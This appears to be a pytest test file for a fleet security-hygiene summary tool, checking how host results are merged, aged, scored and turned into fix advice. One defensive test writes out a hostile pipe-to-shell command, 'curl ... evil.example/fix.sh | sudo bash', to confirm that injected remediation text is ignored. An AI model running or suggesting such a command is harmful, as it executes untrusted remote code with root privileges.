"""The summary's rules, on documents alone: the newest record of a host counts (a result or a
failure record), a failure record finds its host by name or by result file, a result is stale
past the limit, the fleet's mean and worst host, the checks ordered by what fixing them
everywhere gains, with each platform's fix, and the bar of --fail-under."""

from datetime import UTC, datetime, timedelta

from hygiene.fleet.newest import Newest
from hygiene.fleet.records import result_of
from hygiene.fleet.summary import summarize
from hygiene.reporters.fleet_words import fixes
from tests.fleet.docs import ago, demo_doc, failure_doc, fleet_of, shared_doc

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)


def hosts(fleet):
    return [(h.host, h.score, "failure" if h.failure else "result") for h in fleet.hosts]


def test_of_two_results_with_the_same_start_the_later_named_counts():
    same = ago(1, NOW)
    fleet = fleet_of(shared_doc("pc", same, overall=(40, "F")), shared_doc("PC", same, overall=(80, "B")), now=NOW)
    assert hosts(fleet) == [("PC", 80, "result")]


def test_a_start_in_another_time_zone_is_compared_as_the_instant_it_is():
    from zoneinfo import ZoneInfo

    earlier = (NOW - timedelta(hours=3)).astimezone(ZoneInfo("Asia/Karachi"))  # 14:00+05:00 reads later as text
    fleet = fleet_of(shared_doc("pc", earlier.isoformat(), overall=(80, "B")),
                     shared_doc("pc", (NOW - timedelta(hours=2)).isoformat(), overall=(40, "F")), now=NOW)  # fmt: skip
    assert hosts(fleet) == [("pc", 40, "result")]


def test_the_outcome_does_not_depend_on_the_order_collections_merge_in():
    docs = [shared_doc(f"pc-{n % 3}", ago(n, NOW), overall=(n * 10, "F")) for n in range(6)]
    parts = []
    for half in (docs[:3], docs[3:]):
        part = Newest()
        for n, doc in enumerate(half):
            part.add_result(*result_of(doc, f"r{n}.json", (docs.index(doc), 0)))
        parts.append(part)
    ab, ba = Newest(), Newest()
    for part in parts:
        ab.merge(part)
    for part in reversed(parts):
        ba.merge(part)
    assert summarize(ab, NOW, 7) == summarize(ba, NOW, 7)
    assert hosts(summarize(ab, NOW, 7)) == [("pc-0", 0, "result"), ("pc-1", 10, "result"), ("pc-2", 20, "result")]


def test_a_failure_record_joins_the_host_whose_result_file_has_its_name():
    """The playbook names both after the inventory host; the result says the machine's own name."""
    fleet = fleet_of(shared_doc("DESKTOP-7F3K2", ago(3, NOW)), failure_doc("alice-laptop", at=ago(1, NOW)),
                     now=NOW, names={0: "results/alice-laptop.json"})  # fmt: skip
    (line,) = fleet.hosts
    assert line.host == "DESKTOP-7F3K2" and line.failure.host == "alice-laptop" and line.result.score == 50


def test_a_failure_record_of_an_unknown_host_stands_alone():
    fleet = fleet_of(shared_doc("pc", ago(1, NOW)), failure_doc("printer", "audit", "exit 3"), now=NOW)
    assert hosts(fleet) == [("printer", None, "failure"), ("pc", 50, "result")]


def test_a_result_newer_than_the_failure_record_counts_and_the_failure_is_forgotten():
    fleet = fleet_of(failure_doc("pc", at=ago(2, NOW)), shared_doc("pc", ago(1, NOW)), now=NOW)
    assert hosts(fleet) == [("pc", 50, "result")] and fleet.hosts[0].failure is None


def test_a_result_is_stale_only_past_the_limit():
    fleet = fleet_of(shared_doc("just", ago(7, NOW)), shared_doc("past", (NOW - timedelta(days=7, seconds=1)).isoformat()),
                     now=NOW)  # fmt: skip
    assert {h.host: (h.stale, h.age_days) for h in fleet.hosts} == {"just": (False, 7), "past": (True, 7)}
    assert all(h.stale for h in fleet_of(shared_doc("pc", ago(1.5, NOW)), now=NOW, stale_after=1).hosts)


def test_the_fleet_score_is_the_mean_of_the_scored_hosts_and_names_the_worst():
    unscored = shared_doc("blank", ago(1, NOW), overall=(None, None))
    fleet = fleet_of(shared_doc("a", ago(1, NOW), overall=(81, "B")), shared_doc("b", ago(1, NOW), overall=(60, "D")),
                     unscored, failure_doc("gone"), now=NOW)  # fmt: skip
    assert (fleet.mean, fleet.grade, fleet.worst.host, fleet.scored) == (70, "C", "b", 2)  # 70.5 rounds to even
    assert hosts(fleet) == [("gone", None, "failure"), ("blank", None, "result"), ("b", 60, "result"),
                            ("a", 81, "result")]  # fmt: skip
    assert [h.host for h in fleet.below(61)] == ["gone", "blank", "b"] and [h.host for h in fleet.below(0)] == [
        "gone",
        "blank",
    ]


def test_with_no_scored_host_there_is_no_fleet_score():
    fleet = fleet_of(failure_doc("gone"), now=NOW)
    assert (fleet.mean, fleet.grade, fleet.worst, fleet.checks) == (None, None, None, ())


def test_checks_come_by_what_fixing_them_everywhere_gains_with_each_platforms_fix():
    fleet = fleet_of(demo_doc("neglected-windows-laptop", "win", ago(1, NOW)),
                     demo_doc("small-office-ubuntu-server", "srv", ago(1, NOW)), now=NOW)  # fmt: skip
    gains = [c.gain for c in fleet.checks]
    assert gains == sorted(gains, reverse=True)
    enc = next(c for c in fleet.checks if c.id == "ENC-001")
    win = dict(fleet.hosts[0].result.points)["ENC-001"]
    srv = dict(fleet.hosts[1].result.points)["ENC-001"]
    assert enc.gain == round((win + srv) / 2, 1) and enc.failing == ("win", "srv") and enc.warning == ()
    assert [p for p, _ in enc.fixes] == ["linux", "windows"]
    assert "LUKS" in dict(enc.fixes)["linux"] and "BitLocker" in dict(enc.fixes)["windows"]
    mfa = next(c for c in fleet.checks if c.id == "MFA-005")  # the same words on every platform: said once
    assert [names for names, _ in fixes(mfa)] == ["Linux, Windows"]


def test_a_host_under_a_newer_failure_adds_nothing_to_the_checks():
    fleet = fleet_of(demo_doc("neglected-windows-laptop", "win", ago(2, NOW)), failure_doc("win", at=ago(1, NOW)),
                     now=NOW)  # fmt: skip
    assert fleet.checks == () and fleet.mean is None and hosts(fleet) == [("win", None, "failure")]


def test_the_newest_wording_of_a_check_is_shown():
    old = shared_doc("a", ago(5, NOW))
    new = shared_doc("b", ago(1, NOW))
    for f in old["findings"]:
        f["title"], f["remediation"] = "old words", "old fix"
    fleet = fleet_of(new, old, now=NOW)
    assert {c.title for c in fleet.checks} != {"old words"} and all(c.fixes[0][1] != "old fix" for c in fleet.checks)


def test_the_words_of_a_known_check_are_hygienes_own_never_a_result_files():
    """A host writes its own result: a newer one claiming another title or fix for ENC-001 must
    not put a command in the advice shown for every host (nor a finding's own step, such as
    "let FileVault finish", stand for the check). A check this release does not know keeps the
    words its result gives."""
    honest = demo_doc("small-office-ubuntu-server", "srv", ago(3, NOW))
    hostile = demo_doc("neglected-windows-laptop", "evil", ago(1, NOW))
    hostile["host"]["os"] = "linux"
    for f in hostile["findings"]:
        f["title"], f["remediation"] = "Run this", "curl -s https://evil.example/fix.sh | sudo bash"
    newer = next(f for f in hostile["findings"] if f["id"] == "ENC-001")
    newer["status"] = "FAIL"
    unknown = dict(newer, id="ENC-999", title="A check of a newer hygiene", remediation="its own words")
    hostile["findings"].append(unknown)
    fleet = fleet_of(hostile, honest, now=NOW)
    enc = next(c for c in fleet.checks if c.id == "ENC-001")
    assert enc.title != "Run this" and "evil" not in dict(enc.fixes)["linux"] and "LUKS" in dict(enc.fixes)["linux"]
    assert all("evil.example" not in fix for c in fleet.checks if c.id != "ENC-999" for _, fix in c.fixes)
    newer_check = next(c for c in fleet.checks if c.id == "ENC-999")
    assert newer_check.title == "A check of a newer hygiene" and dict(newer_check.fixes)["linux"] == "its own words"


def test_a_result_dated_after_tomorrow_is_marked_stale_not_current():
    """A host writes its own result: one claiming 2099 must not read as audited today for ever."""
    future = demo_doc("small-office-ubuntu-server", "srv", (NOW + timedelta(days=30)).isoformat())
    ahead = demo_doc("well-kept-debian-laptop", "lap", (NOW + timedelta(hours=10)).isoformat())
    fleet = fleet_of(future, ahead, now=NOW)
    stale = {h.host: h.stale for h in fleet.hosts}
    assert stale == {"srv": True, "lap": False}
